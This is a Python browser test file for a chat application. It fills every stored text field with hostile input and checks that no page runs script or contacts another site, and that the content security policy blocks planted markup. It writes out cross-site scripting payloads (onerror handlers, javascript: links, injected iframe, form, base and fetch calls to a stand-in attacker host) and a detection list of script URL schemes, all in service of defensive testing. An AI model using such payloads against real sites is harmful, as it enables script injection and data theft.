"""Hostile text in everything that is stored, on every page, in a real browser: none of it runs, nothing is fetched.

The content security policy is switched off here, so that escaping and cleaning have to hold alone; a test at the end
shows that the policy would have stopped what got through. Texts that only look long are as they are stored: fields are
filled past their forms, as an import or a fault would.

HOSTILE=long takes every text there is, each page as two people, and some minutes.
"""

import os
import re
import uuid

import pytest
from sqlalchemy import String, update

from chat.accounts.actions import create_invite, create_user
from chat.accounts.actions.sessions import begin_session
from chat.core.db import db
from chat.core.transaction import transaction
from chat.messages.actions import edit_message, post_message
from chat.messages.models import Message
from chat.rooms.actions import add_member, change_room, create_room
from tests.browser.hostile import EVIL, corpus, everything
from tests.conftest import FIGURES
from tests.factories import person

LONG = os.environ.get("HOSTILE") == "long"
TEXTS = corpus(None if LONG else 3100)
OBJECTS = 4  # people and rooms that carry all texts between them
PAGE = 50

# Columns that people fill, in whatever table.
WRITTEN = {
    "name",
    "username",
    "bio",
    "title",
    "pronouns",
    "topic",
    "description",
    "user_agent",
    "address",
    "reason",
    "email",
    "filename",
    "label",
    "note",
    "subject",
    "alt",
    "text",
}
NOBODYS = {"audit", "streams"}  # nobody can change the first, and the names in the second are ours
RENDERED = {
    ("messages", "text"),
    ("edits", "text"),
}  # stored beside the HTML made of them: these go through the actions
# Notes what runs, and finds what would run at a click: `ran` and `suspects()`.
HOOK = """
window.ran = []
for (const name of ["alert", "confirm", "prompt", "print"])
  window[name] = () => { window.ran.push(name); console.error("RAN " + name) }
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
  console.error("POLICY " + violatedDirective + " " + blockedURI))
const LEADS = ["href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset", "background", "ping"]
const SCRIPT = /^[\\s\\x00-\\x1f]*(javascript|vbscript|data|blob|file|about|feed|view-source|livescript|jar)\\s*:/i
const FORBIDDEN = "base, object, embed, iframe, frame, meta[http-equiv=refresh], svg script, math, style"
function isSuspect({ name, value }) {
  if (name.startsWith("on") || name === "srcdoc" || (name === "style" && value.includes("EVIL"))) return true
  return LEADS.includes(name) && (SCRIPT.test(value) || (name !== "href" && value.includes("EVIL")))
}
window.suspects = () => {
  const attributes = [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes])
  const found = attributes.filter(isSuspect).map(({ name, value }) => `${name}=${value.slice(0, 80)}`)
  return found.concat([...document.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML.slice(0, 120)))
}
""".replace("EVIL", EVIL)


@pytest.fixture
def hostile_window(open_window):
    """hostile_window("alice") → a Window whose pages tell what ran, and whose browser goes nowhere else."""

    def hostile_window(username, *, policy=False):
        window = open_window(username, bypass_csp=not policy)
        window.elsewhere = []
        window.context.add_init_script(HOOK)

        def elsewhere(route):
            window.elsewhere.append(route.request.url)
            route.abort()

        window.context.route(re.compile(rf"^(?!{re.escape(window.server.url)}|ws:|blob:)"), elsewhere)
        window.page.on("dialog", lambda dialog: (window.heard.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        return window

    return hostile_window


def assert_harmless(window, place):
    """Nothing ran on this page, nothing can be made to run by a click, and nothing was asked of another site."""
    assert window.page.evaluate("window.ran") == [], place
    assert window.page.evaluate("window.suspects()") == [], place
    assert window.elsewhere == [], place


def pieces(count):
    """The texts in `count` long ones, apart from NUL, which no database takes."""
    size = -(-len(TEXTS) // count)
    return [" ".join(TEXTS[start : start + size]).replace("\0", "") for start in range(0, len(TEXTS), size)]


def test_there_are_three_thousand_texts_and_no_two_are_the_same():
    assert len(TEXTS) >= 3000
    assert len(set(TEXTS)) == len(TEXTS)
    assert set(TEXTS) <= set(everything())


def test_three_thousand_messages_run_nothing(make_room, hostile_window, server):
    room = make_room("alice", "bob")
    stored = 0
    with server.app.app_context(), transaction():
        for text in TEXTS:
            post_message(person("alice"), room.row(), text, key=str(uuid.uuid4()))
            stored += 1
    window = hostile_window("bob")
    shown, pages = set(), 0
    for after in range(0, stored + PAGE, PAGE):
        window.visit(f"{room.path}?after={after}")
        assert_harmless(window, f"{room.path}?after={after}")
        shown |= set(window.find(".timeline [data-id]").evaluate_all("(all) => all.map((one) => one.dataset.id)"))
        pages += 1
    assert stored == len(TEXTS)
    assert len(shown) == stored
    FIGURES.append(f"Hostile messages: {stored} on {pages} pages, 0 ran, 0 requests elsewhere")


# Every other text that is stored, on every page


def written_columns():
    """[(table, column)] of what people fill, in whatever table."""
    return [
        (table, column)
        for table in db.metadata.sorted_tables
        for column in table.columns
        if column.name in WRITTEN
        and isinstance(column.type, String)
        and (table.name, column.name) not in RENDERED
        and table.name not in NOBODYS
    ]


class World:
    """People, rooms, invites and sessions of which every text that is stored is hostile."""

    def __init__(self, app):
        ada, alice, parts = person("ada"), person("alice"), pieces(OBJECTS)
        self.people = [
            create_user(name=f"Hostile {n}", username=f"hostile{n}", email=f"hostile{n}@example.org", password_hash="x")
            for n in range(OBJECTS)
        ]
        self.user_ids = [user.id for user in self.people]
        self.room_ids, self.message_ids = [], []
        for number, user in enumerate(self.people):
            room = create_room(alice, f"hostile-{number}", kind="public" if number % 2 else "private", topic="x")
            for other in (ada, *self.people):
                add_member(alice, room, other)
            change_room(alice, room, name=f"hostile-{number}-again", topic="y", description="z")
            self.room_ids.append(room.id)
            said = post_message(alice, room, pieces(200)[number], key=f"hostile-{number}")
            edit_message(alice, db.session.get(Message, said.id), pieces(200)[number + OBJECTS])
            self.message_ids.append(said.id)
            post_message(user, room, "From somebody whose name is hostile", key=f"by-{number}")
        self.invite_ids = [create_invite(ada, expires_days=7, max_uses=5).id for _ in range(OBJECTS)]
        for _ in range(OBJECTS):
            begin_session(alice, address="x", user_agent="x")
            begin_session(ada, address="x", user_agent="x")
        db.session.commit()
        self.filled = {}
        cast = {person(name).id for name in ("ada", "alice", "bob", "carol", "robot")}
        for table, column in written_columns():
            self._fill(table, column, parts, cast)
        db.session.commit()

    def _fill(self, table, column, parts, cast):
        """A different part in each row; people whom tests look up by name keep it."""
        keys = list(table.primary_key.columns)
        rows = db.session.execute(db.select(*keys).order_by(*keys)).all()
        if table.name == "users":
            rows = [row for row in rows if row[0] not in cast or column.name in ("bio", "title", "pronouns")]
        for number, row in enumerate(rows):
            value = parts[number % len(parts)] + (f" {number}" if column.name in ("name", "email") else "")
            if column.name == "username":  # stands in addresses, too, and has to be found again there
                value = f"hostile{number}" + value[:200].replace("/", "|")
            if table.name == "site":
                value = " ".join(TEXTS[::100])
            where = [key == part for key, part in zip(keys, row, strict=True)]
            db.session.execute(update(table).where(*where).values({column.name: value}))
            self.filled[f"{table.name}.{column.name}"] = number + 1


VALUES = {
    "session_id": 1,
    "code": "none",
    "path": "none.js",
    "hue": 205,
    "event": "read",
    "provider": "none",
    "name": "none.webp",
}


def pages(app, world):
    """Every address that shows something, of each hostile thing that it is about."""
    adapter = app.url_map.bind("localhost")
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint.startswith(("static.", "ops.", "api.")):
            continue
        usernames = [db.session.get(type(world.people[0]), id).username for id in world.user_ids]
        of = {
            "room_id": world.room_ids,
            "message_id": world.message_ids,
            "user_id": world.user_ids,
            "username": usernames,
            "invite_id": world.invite_ids,
            "person_id": world.user_ids,
        }
        for number in range(OBJECTS if rule.arguments & set(of) else 1):
            values = {name: of[name][number] if name in of else VALUES.get(name, 1) for name in rule.arguments}
            yield adapter.build(rule.endpoint, values, "GET")


@pytest.mark.parametrize("who", ["ada", "alice"] if LONG else ["ada"])
def test_no_text_that_is_stored_runs_on_any_page(server, hostile_window, who):
    with server.app.app_context():
        world = World(server.app)
        places = list(pages(server.app, world))
    window = hostile_window(who).expects(r"status of (4\d\d|501)", r"^failed: GET .*(aborted|ERR_)")
    seen = {}
    for path in places:
        answer = window.page.goto(path)
        assert answer.status < 500, path
        assert_harmless(window, path)
        seen[answer.status] = seen.get(answer.status, 0) + 1
    room = world.room_ids[0]
    for query in ("/rooms?q=hostile", f"/people?q={TEXTS[0]}", f"/rooms/{room}?around=1", f"/rooms?q={TEXTS[7]}"):
        window.visit(query)
        assert_harmless(window, query)
    assert seen[200] >= 30
    core = {
        "users.name",
        "users.username",
        "users.bio",
        "users.title",
        "users.pronouns",
        "rooms.name",
        "rooms.topic",
        "rooms.description",
        "site.name",
        "sessions.user_agent",
    }
    assert core <= set(world.filled), world.filled
    FIGURES.append(
        f"Hostile fields: {len(TEXTS)} texts in each of {len(world.filled)} columns on {sum(seen.values())} pages "
        f"as {who} (answers {seen}), 0 ran, 0 requests elsewhere: {', '.join(sorted(world.filled))}"
    )


def test_what_arrives_while_one_looks_runs_nothing(server, make_room, hostile_window):
    """Posted, edited, renamed and typed while the room is on screen: the page's own script puts it in."""
    room = make_room("alice", "bob")
    window = hostile_window("bob")
    window.visit(room).live()
    parts = pieces(100 if LONG else 60)
    for part in parts:
        [id] = room.say("alice", part[:19_000])
    room.act(change_room, "alice", name=f"changed-{room.id}", topic=" ".join(TEXTS[::400])[:200], description="")
    with server.app.app_context():
        edit_message(person("alice"), db.session.get(Message, id), "Over. " + parts[0][:15_000])
    window.find(".message__body", has_text="Over.").last.wait_for()
    window.say("Mine <img src=x onerror=alert(1)>")
    window.find(".message__body", has_text="Mine").last.wait_for()
    assert_harmless(window, "live")


def test_the_policy_would_stop_what_got_through(hostile_window, make_room):
    """The second line: with the policy on, what is planted into the page by force does not run and fetches nothing."""
    room = make_room("alice", "bob")
    window = hostile_window("bob", policy=True)
    window.expects(
        r"POLICY|Content Security Policy|csp|violates|Refused", r"status of 404"
    )  # the picture is asked for here
    window.visit(room).live()
    window.page.evaluate(
        """(evil) => {
          const at = document.querySelector("main") ?? document.body
          for (const html of [
            `<img src=x onerror=alert(1)>`,
            `<a id=planted href="javascript:alert(2)">x</a>`,
            `<img src=//${evil}/i>`,
            `<style>body { background: url(//${evil}/s) }</style>`,
            `<iframe src=//${evil}/f></iframe>`,
            `<form id=sent action=//${evil}/post method=post></form>`,
            `<base href=//${evil}/>`,
          ])
            at.insertAdjacentHTML("beforeend", html)
          for (const [name, value] of [["text", "alert(3)"], ["src", `//${evil}/s.js`]]) {
            const script = document.createElement("script")
            script[name] = value
            at.append(script)
          }
          document.getElementById("planted").click()
          document.getElementById("sent").submit()
          fetch(`//${evil}/x`).catch(() => {})
        }""",
        EVIL,
    )
    window.until(lambda: sum("POLICY" in words for words in window.heard) >= 6, "the policy to speak up")
    assert window.page.evaluate("window.ran") == []
    assert window.elsewhere == []
    assert window.page.url.startswith(window.server.url)
